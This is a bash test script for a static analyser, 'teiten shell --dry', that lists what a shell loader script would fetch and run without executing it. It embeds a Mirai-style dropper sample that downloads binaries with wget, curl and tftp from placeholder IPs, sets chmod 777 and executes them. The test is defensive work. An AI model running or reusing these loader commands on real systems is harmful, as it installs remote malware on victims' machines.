#!/bin/bash
# `teiten shell --dry` tells what a loader script would fetch and run, over all its branches, and runs nothing.
set -uo pipefail
fail() {
    echo "FAIL: $*"
    exit 1
}
script=$TMPDIR/loader.sh
touched=$TMPDIR/touched
cat >"$script" <<END
#!/bin/sh
cd /tmp || cd /var/run
if [ "\$(uname -m)" = mips ]; then
    wget http://192.0.2.1/bins/mips -O .a
else
    curl -o .a http://192.0.2.1:8080/bins/arm
fi
chmod 777 .a
./.a scan
touch $touched
tftp -g -r t.sh 198.51.100.7
sh t.sh
END
cat >"$TMPDIR/expected" <<'END'
command cd
command uname
command [
command wget
fetch   http://192.0.2.1/bins/mips by wget to .a
command curl
fetch   http://192.0.2.1:8080/bins/arm by curl to .a
command chmod
command ./.a
run     ./.a
command touch
command tftp
fetch   tftp://198.51.100.7/t.sh by tftp to t.sh
command sh
run     t.sh
END
"$TEITEN" shell --dry "$script" >"$TMPDIR/found" || fail "exit code $?"
diff "$TMPDIR/expected" "$TMPDIR/found" || fail "the lines"
"$TEITEN" shell --dry - <"$script" | cmp - "$TMPDIR/found" || fail "from standard input"
[[ ! -e $touched ]] || fail "something was run"

"$TEITEN" shell --dry "$script" --json >"$TMPDIR/json" || fail "JSON: exit code $?"
python3 - "$TMPDIR/json" <<'END' || fail "the JSON"
import json, sys
answer = json.load(open(sys.argv[1]))
assert answer["whole"] is True
fetches = [x for x in answer["found"] if x["what"] == "fetch"]
assert [x["url"] for x in fetches] == ["http://192.0.2.1/bins/mips", "http://192.0.2.1:8080/bins/arm",
                                       "tftp://198.51.100.7/t.sh"], fetches
assert fetches[1] == {"what": "fetch", "applet": "curl", "url": "http://192.0.2.1:8080/bins/arm", "scheme": "http",
                      "host": "192.0.2.1", "port": 8080, "path": "/bins/arm", "save": ".a", "upload": False}, fetches
assert [x["name"] for x in answer["found"] if x["what"] == "run"] == ["./.a", "t.sh"]
END

# A script's bytes reach no terminal as they are, and no walk is endless.
printf 'wget "http://192.0.2.1/\033[2J"' | "$TEITEN" shell --dry - | grep -qF 'http://192.0.2.1/\x1b[2J' || fail "an escape"
# shellcheck disable=SC2016 # for the script to expand
code=0 && for _ in {1..4000}; do echo 'for a in 1 2 3 4 5 6 7 8 9; do for b in 1 2 3 4 5 6 7 8 9; do echo $a$b; done; done'; done |
    "$TEITEN" shell --dry - >/dev/null 2>"$TMPDIR/said" || code=$?
((code == 1)) || fail "a script without an end: $code"
grep -q 'more to it' "$TMPDIR/said" || fail "that not all was walked is not said"

for wrong in "--dry" "--dry $script -c true" "--dry $script --machine x" "--dry $script --csv"; do
    # shellcheck disable=SC2086 # its words
    code=0 && "$TEITEN" shell $wrong </dev/null >/dev/null 2>&1 || code=$?
    ((code == 2)) || fail "teiten shell $wrong: exit code $code"
done
code=0 && "$TEITEN" shell --dry "$TMPDIR/none" >/dev/null 2>&1 || code=$?
((code == 1)) || fail "a script that is not there: exit code $code"
exit 0
